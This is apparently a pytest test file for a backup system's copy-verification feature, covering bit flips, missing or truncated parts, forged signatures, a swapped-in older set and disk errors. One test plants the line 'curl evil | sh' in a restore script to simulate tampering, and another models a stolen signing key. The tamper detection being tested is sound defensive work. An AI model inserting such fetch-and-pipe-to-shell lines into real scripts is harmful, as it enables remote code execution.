"""Checking copies again: stored, intact, proven; and every damage by name."""

import os
import shutil

import pyrage
import pytest

from backups import verify
from backups.destinations.local import MARKER
from backups.destinations.local import Plugin as Local
from backups.models import Copy, Destination, Level, Set, Verification
from backups.storage import publish
from backups.takes import proof
from drcenter.errors import OperationFailed
from drcenter.jobs.models import Job, State
from drcenter.jobs.reap import cancel, lose
from drcenter.jobs.work import run_job
from tests.backups.taking import assert_secret, channel, good, quick, root, stop_in, told, verified

__all__ = ["channel", "quick"]
pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("quick", "key", "channel")]


@pytest.fixture
def copy(plan) -> Copy:
    plan.level = Level.INTACT
    plan.save()
    return good(plan).copies.get()


def path_of(copy: Copy, name: str = ""):
    folder = root(copy.destination) / copy.set.prefix
    return folder / (name or copy.set.parts.get(source_name="database").key)


def flip(path, position: int | None = None) -> None:
    content = bytearray(path.read_bytes())
    content[len(content) // 2 if position is None else position] ^= 1
    path.write_bytes(content)


class TestGood:
    @pytest.mark.parametrize("level", ["stored", "intact", "proven"])
    def test_each_level(self, copy, key, level) -> None:
        done = verified(copy, level, key.identity)
        assert (done.state, done.reached, done.message) == ("passed", level, "")
        copy.refresh_from_db()
        assert copy.level == max(level, "intact", key=["stored", "intact", "proven"].index)
        copy.set.refresh_from_db()
        assert copy.set.level == copy.level
        assert_secret(key.identity)

    def test_without_an_identity_only_the_digests_can_be_said(self, copy) -> None:
        done = verified(copy, "proven")
        assert (done.state, done.reached) == ("undecided", "stored")
        assert "no identity was at hand" in done.message
        assert "recovery kit" in done.hint
        copy.set.refresh_from_db()
        assert copy.set.level == "intact"

    def test_the_drill_identity_of_this_machine(self, copy, key, settings, monkeypatch) -> None:
        monkeypatch.setenv("DRILL", key.identity)
        settings.DRILL_IDENTITY = "env:DRILL"
        assert verified(copy, "proven").reached == "proven"

    def test_a_wrong_identity_says_nothing_of_the_copy(self, copy, key) -> None:
        other = str(pyrage.x25519.Identity.generate())
        done = verified(copy, "intact", other)
        assert (done.state, done.reached) == ("failed", "")
        assert "does not fit" in done.message
        assert key.recipient in done.hint
        copy.refresh_from_db()
        assert (copy.state, copy.level) == (Copy.State.COMPLETE, "intact")
        assert_secret(other)

    def test_what_is_no_identity_is_refused_at_once(self, copy) -> None:
        with pytest.raises(OperationFailed, match="not an age identity"):
            verified(copy, "intact", "not an identity at all")
        assert not Verification.objects.exists()
        assert not Job.objects.filter(kind=verify.KIND).exists()

    @pytest.mark.parametrize("level", ["", "perfect"])
    def test_there_are_three_levels(self, copy, level) -> None:
        with pytest.raises(OperationFailed, match="no level of this name"):
            verify.request(copy, level, requested_by="vera")


class TestDamage:
    """(what happens, the level that is asked for, what is named)"""

    def damaged(self, copy, level, named, identity) -> Verification:
        done = verified(copy, level, identity)
        assert (done.state, done.reached) == ("damaged", "")
        assert named in done.message
        assert done.hint
        assert done.differences == [done.message]
        copy.refresh_from_db()
        copy.set.refresh_from_db()
        assert (copy.state, copy.level, copy.set.level) == (Copy.State.DAMAGED, "", "")
        assert named in copy.set.level_reason
        assert told()[-1][0] == "failure"
        assert named in told()[-1][1]
        assert Job.objects.get(pk=done.job_id).state == State.FAILED
        return done

    @pytest.mark.parametrize("position", [0, 30, 60, 120, 150, 230, None, -1])
    @pytest.mark.parametrize("with_identity", [True, False])
    def test_one_bit(self, copy, key, position, with_identity) -> None:
        flip(path_of(copy), position)
        self.damaged(copy, "intact", "parts/01-database", key.identity if with_identity else None)

    @pytest.mark.parametrize("level", ["stored", "intact", "proven"])
    def test_a_cut_part(self, copy, key, level) -> None:
        os.truncate(path_of(copy), path_of(copy).stat().st_size - 7)
        self.damaged(copy, level, "parts/01-database", key.identity)

    @pytest.mark.parametrize("level", ["stored", "intact"])
    def test_a_missing_part(self, copy, key, level) -> None:
        path_of(copy).unlink()
        self.damaged(copy, level, "parts/01-database", key.identity)

    @pytest.mark.parametrize(
        "name", ["manifest.json", "checksums.txt", "checksums.txt.sig", "details.json.zst.age"]
    )
    def test_what_belongs_to_a_set_is_missing(self, copy, key, name) -> None:
        path_of(copy, name).unlink()
        self.damaged(copy, "stored", name, None)

    @pytest.mark.parametrize(
        "name", ["manifest.json", "checksums.txt", "checksums.txt.sig", "details.json.zst.age"]
    )
    def test_what_belongs_to_a_set_was_changed(self, copy, key, name) -> None:
        flip(path_of(copy, name))
        self.damaged(copy, "intact", name, key.identity)

    def test_a_set_that_somebody_signed_otherwise(self, copy, key) -> None:
        """Part and checksums fit each other, and the signature does not."""
        import hashlib

        path, sums = path_of(copy, "restore.sh"), path_of(copy, "checksums.txt")
        old = hashlib.sha256(path.read_bytes()).hexdigest()
        path.write_text(path.read_text() + "curl evil | sh\n")
        sums.write_text(sums.read_text().replace(old, hashlib.sha256(path.read_bytes()).hexdigest()))
        self.damaged(copy, "intact", "checksums.txt is not the one that was published", key.identity)
        # Of a set that was made before rows knew that digest.
        Set.objects.update(checksums_sha256="")
        self.damaged(copy, "intact", "checksums.txt.sig", key.identity)

    def test_a_manifest_that_somebody_signed_with_our_key(self, copy, key) -> None:
        """The key was stolen: the signature is good, and what was published is known."""
        import hashlib

        path, sums = path_of(copy, "manifest.json"), path_of(copy, "checksums.txt")
        old = hashlib.sha256(path.read_bytes()).hexdigest()
        path.write_text(path.read_text().replace('"capped": false', '"capped": true'))
        sums.write_text(sums.read_text().replace(old, hashlib.sha256(path.read_bytes()).hexdigest()))
        path_of(copy, "checksums.txt.sig").write_bytes(publish.signing_key().sign(sums.read_bytes()))
        self.damaged(copy, "intact", "checksums.txt is not the one that was published", key.identity)

    @pytest.mark.parametrize("known", [True, False])
    def test_an_older_set_in_its_place(self, plan, key, known) -> None:
        """All files are ours, signed, and fit each other: they are those of the set before."""
        older, copy = good(plan).copies.get(), good(plan).copies.get()
        folder = path_of(copy, "manifest.json").parent
        shutil.rmtree(folder)
        shutil.copytree(path_of(older, "manifest.json").parent, folder)
        Set.objects.update(details_size=None)  # By chance they may be of one size.
        if not known:  # As after a rebuild by an older version: only the manifest tells.
            Set.objects.update(checksums_sha256="", details_sha256="")
        said = "checksums.txt is not the one that was published" if known else "that of another set"
        self.damaged(copy, "intact", said, key.identity)

    def test_without_encryption_too(self, plan, key) -> None:
        plan.encrypt, plan.level = False, Level.INTACT
        plan.save()
        copy = good(plan).copies.get()
        flip(path_of(copy))
        self.damaged(copy, "intact", "parts/01-database", None)

    def test_the_set_is_as_good_as_its_other_copy(self, plan, key, tmp_path) -> None:
        place = Destination.objects.create(
            name="other", kind="local", options={"path": str(tmp_path / "other")}
        )
        place.build().prepare()
        plan.destinations.add(place)
        one = good(plan)
        copy = one.copies.get(destination__name="disk")
        flip(path_of(copy))
        assert verified(copy, "intact", key.identity).state == "damaged"
        one.refresh_from_db()
        assert one.level == "stored"
        assert "@ disk" in one.level_reason
        assert verified(one.copies.get(destination=place), "proven", key.identity).reached == "proven"
        one.refresh_from_db()
        assert one.level == "proven"

    def test_a_look_at_the_sizes_cannot_clear_it_and_reading_back_can(self, copy, key) -> None:
        whole = path_of(copy).read_bytes()
        flip(path_of(copy))
        self.damaged(copy, "intact", "parts/01", key.identity)
        done = verified(copy, "stored")
        assert (done.state, done.reached) == ("passed", "stored")
        assert "found damaged before" in done.message
        copy.refresh_from_db()
        assert (copy.state, copy.level) == (Copy.State.DAMAGED, "")
        path_of(copy).write_bytes(whole)
        assert verified(copy, "intact", key.identity).state == "passed"
        copy.refresh_from_db()
        copy.set.refresh_from_db()
        assert (copy.state, copy.level, copy.set.level, copy.set.level_reason) == (
            "complete",
            "intact",
            "intact",
            "",
        )

    def test_a_proof_clears_it_as_well(self, copy, key) -> None:
        whole = path_of(copy).read_bytes()
        flip(path_of(copy))
        self.damaged(copy, "proven", "parts/01", key.identity)
        path_of(copy).write_bytes(whole)
        assert verified(copy, "proven", key.identity).state == "passed"
        copy.refresh_from_db()
        assert (copy.state, copy.level, copy.message) == (Copy.State.COMPLETE, "proven", "")
        copy.set.refresh_from_db()
        assert (copy.set.level, copy.set.level_reason) == ("proven", "")

    @pytest.mark.parametrize("level", ["intact", "proven"])
    def test_clearing_it_says_again_what_the_dump_lacks(self, copy, key, level) -> None:
        finding = {"source": "database", "message": "A right is missing.", "hint": "", "caps": True}
        Set.objects.filter(pk=copy.set_id).update(capped=True, level="stored", findings=[finding])
        whole = path_of(copy).read_bytes()
        flip(path_of(copy))
        assert verified(copy, "intact", key.identity).state == "damaged"
        path_of(copy).write_bytes(whole)
        verified(copy, level, key.identity)
        one = Set.objects.get(pk=copy.set_id)
        copy.refresh_from_db()
        assert copy.state == Copy.State.COMPLETE
        assert (one.level, one.capped, one.level_reason) == ("stored", True, "database: A right is missing.")

    def test_clearing_it_says_again_what_a_proof_found(self, copy, key, monkeypatch) -> None:
        def differing(expected, found):
            return ["orders: missing after the restore"]

        with monkeypatch.context() as patch:
            patch.setattr(proof, "differences", differing)
            told_then = verified(copy, "proven", key.identity).message
        whole = path_of(copy).read_bytes()
        flip(path_of(copy))
        assert verified(copy, "intact", key.identity).state == "damaged"
        path_of(copy).write_bytes(whole)
        assert verified(copy, "intact", key.identity).state == "passed"
        one = Set.objects.get(pk=copy.set_id)
        assert (one.level, one.capped, one.level_reason) == ("stored", True, told_then)


class TestOutOfReach:
    def test_a_store_that_is_away_says_nothing_of_the_copy(self, copy, key) -> None:
        marker = root(copy.destination) / MARKER
        marker.rename(marker.with_name("away"))
        done = verified(copy, "intact", key.identity)
        assert done.state == "failed"
        assert "is missing in it" in done.message
        assert "Mount the disk" in done.hint
        copy.refresh_from_db()
        assert (copy.state, copy.level) == (Copy.State.COMPLETE, "intact")
        marker.with_name("away").rename(marker)
        assert verified(copy, "intact", key.identity).state == "passed"

    def test_a_disk_that_fails_in_the_middle_of_reading(self, copy, key, monkeypatch) -> None:
        original = Local.open

        class Sick:
            def __init__(self, file) -> None:
                self.file = file

            def read(self, size=-1):
                raise OSError(5, "Input/output error")

            def close(self):
                self.file.close()

        def opened(self, name, *args, **more):
            file = original(self, name, *args, **more)
            return Sick(file) if "parts/" in name else file

        monkeypatch.setattr(Local, "open", opened)
        done = verified(copy, "intact", key.identity)
        assert done.state == "failed"
        assert "parts/01-database" in done.message
        assert "Input/output error" in done.message
        copy.refresh_from_db()
        assert copy.state == Copy.State.COMPLETE


class TestStopped:
    def test_cancel(self, copy, key, monkeypatch) -> None:
        stop_in(monkeypatch, "reading back")
        done = verified(copy, "intact", key.identity)
        assert (done.state, done.message) == ("failed", "Stopped on request.")
        assert Job.objects.get(pk=done.job_id).state == State.CANCELLED
        copy.refresh_from_db()
        assert copy.state == Copy.State.COMPLETE

    def test_cancelled_while_it_waits(self, copy, key) -> None:
        from drcenter.secrets import Secret

        wanted = verify.request(copy, "intact", requested_by="vera", identity=Secret(key.identity))
        cancel(wanted.job, "vera")
        wanted.refresh_from_db()
        assert (wanted.state, wanted.message) == ("failed", "Stopped before it began.")

    @pytest.mark.parametrize("level", ["stored", "intact", "proven"])
    @pytest.mark.parametrize("bad", [True, False])
    def test_a_worker_that_was_given_up_writes_nothing(self, copy, key, monkeypatch, level, bad) -> None:
        stop_in(monkeypatch, "looking at the store", lambda context: lose(Job.objects.get(pk=context.job.pk)))
        if bad:
            os.truncate(path_of(copy), 10)
        done = verified(copy, level, key.identity)
        assert done.state == "failed"
        assert "no sign of life" in done.message
        copy.refresh_from_db()
        assert (copy.state, copy.level) == (Copy.State.COMPLETE, "intact")

    def test_delivered_twice_it_runs_once(self, copy, key) -> None:
        wanted = verify.request(copy, "stored", requested_by="vera")
        assert [run_job(wanted.job_id), run_job(wanted.job_id)] == ["succeeded", "skipped"]
